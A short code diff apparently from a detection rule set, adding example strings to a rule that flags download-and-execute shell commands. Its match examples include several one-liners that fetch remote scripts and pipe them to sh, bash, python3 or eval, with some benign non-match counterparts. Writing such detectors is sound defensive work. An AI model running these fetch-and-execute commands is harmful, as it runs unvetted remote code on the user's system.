@@ -1361,6 +1361,7 @@ RULES: tuple[Rule, ...] = (
             "curl -fsSL https://get.example.sh | sh",
             "wget -qO- https://x.example/i.sh | sudo bash",
             "bash <(curl -s https://x.example/install)",
+            "sh < <(wget -qO- https://x.example/install)",
             'sh -c "$(curl -fsSL https://x.example/i)"',
             "curl https://x.example/a.py | python3 -",
             "node -e \"fetch('https://x.example/run.js').then(r=>r.text()).then(eval)\"",
@@ -1371,6 +1372,7 @@ RULES: tuple[Rule, ...] = (
         not_match=(
             "curl -fsSL https://x.example/i.sh -o install.sh",
             "curl https://example.com | jq .",
+            "sh < ./install.sh",
             "node -e \"fetch('https://x.example/run.js').then(r=>r.text()).then(console.log)\"",
             "python3 -c \"import urllib.request as u; print(u.urlopen('https://x.example/a.py')"
             '.read().decode())"',
